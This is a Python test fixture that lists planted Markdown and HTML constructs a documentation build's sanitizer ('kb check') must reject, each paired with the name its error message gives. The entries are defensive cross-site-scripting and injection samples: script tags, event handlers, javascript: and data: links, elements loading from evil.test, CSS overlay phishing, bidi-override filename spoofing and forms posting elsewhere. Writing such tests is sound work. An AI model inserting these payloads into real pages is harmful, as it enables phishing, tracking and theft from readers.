"""Constructs that must never reach a reader, as a contributor could write them in Markdown,
each with the construct the build and `make check` must name. Shared by the unit test of
`kb check` and the build test, so both judge the same list."""

from __future__ import annotations

# (Markdown, construct named in the message)
PLANTED = [
    ("<script>alert(1)</script>", "<script>"),
    ("<SCRIPT>alert(1)</SCRIPT>", "<script>"),
    ('![logo](logo.png){ onerror="alert(1)" }', "<img onerror>"),
    ('<img src="photo.png" alt="a photo"\nonerror="alert(1)">', "<img onerror>"),
    ('## Planted heading { onclick="alert(1)" }', "<h2 onclick>"),
    ('A planted paragraph.\n{ onmouseover="alert(1)" }', "<p onmouseover>"),
    ('<span onclick="steal()">click</span>', "<span onclick>"),
    ("[tab](java&#9;script:alert(1))", '<a href="java\\x09script:alert(1)">'),
    ('<a href="JaVaScRiPt:alert(1)">case</a>', '<a href="JaVaScRiPt:alert(1)">'),
    ('<a href=" javascript:alert(1)">space</a>', '<a href=" javascript:alert(1)">'),
    ("[data](data:text/html;base64,PHNjcmlwdD4=)", '<a href="data:text/html;base64,PHNjcmlwdD4=">'),
    ('<base href="https://evil.test/">', "<base>"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.test/">', "<meta>"),
    ('<object data="https://evil.test/x.swf"></object>', "<object>"),
    ('<embed src="https://evil.test/x.swf">', "<embed>"),
    ('<form action="https://evil.test/"><button>Send</button></form>', "<form>"),
    ("<style>@import url(https://evil.test/x.css);</style>", "<style>"),
    ('<link rel="stylesheet" href="https://evil.test/x.css">', "<link>"),
    ('<iframe src="https://evil.test/"></iframe>', "<iframe>"),
    ("![pixel](https://tracker.test/p.gif)", '<img src="https://tracker.test/p.gif">'),
    ('<p style="background: url(https://tracker.test/p.gif)">styled</p>', "<p style>"),
    ('<pre class="mermaid">graph LR; a-->b</pre>', '<pre class="mermaid">'),
    ('!!! note "<img src=x.png alt=x onerror=alert(1)>"\n    An admonition.', "<img onerror>"),
    ('- [ ] An item <b onclick="alert(1)">bold</b>', "<b onclick>"),
    # Bypasses (issue 27): URLs as browsers read them, styles with comments, Material's own
    # interface classes, an unclosed link, a right-to-left override in a link's text.
    ('<img src="\\\\evil.test/x.png" alt="x">', '<img src="\\\\evil.test/x.png">'),
    ('<img src="/\\evil.test/x.png" alt="x">', '<img src="/\\evil.test/x.png">'),
    ('<img src="/&#9;/evil.test/x.png" alt="x">', '<img src="/\\x09/evil.test/x.png">'),
    (
        '<table><tr><td style="text-align:left;position/**/:fixed;inset:0;background/**/:url(//evil.test/x)">'
        "Sign in again</td></tr></table>",
        "<td style>",
    ),
    ('<div class="md-dialog md-dialog--active">Sign in again</div>', '<div class="md-dialog md-dialog--active">'),
    ('<a href="https://evil.test/">An unclosed link\n\nA paragraph the link swallows.', "an unclosed <a>"),
    ("[\u202egnp.exe](index.md)", "U+202E in a link's text"),
    ("## Pay \u2067here\u2069 now", "U+2067 in an <h2>"),
    # Form fields (issue 26): only the templates' field syntax makes them (kb/markdown/forms.py);
    # the same controls written as HTML, a submit button that posts elsewhere, autofocus.
    ('<input type="text" name="password">', "<input> written as HTML"),
    ('<INPUT TYPE="password" data-kb-field="intake-need">', "<input> written as HTML"),
    ('<textarea data-kb-field="intake-need"></textarea>', "<textarea> written as HTML"),
    ('<select data-kb-field="website.it"><option value="A">A</option></select>', "<select> written as HTML"),
    ('<button type="submit" formaction="https://evil.test/">Send</button>', "<button formaction>"),
    ('<button type="button" autofocus>Go</button>', "<button autofocus>"),
]
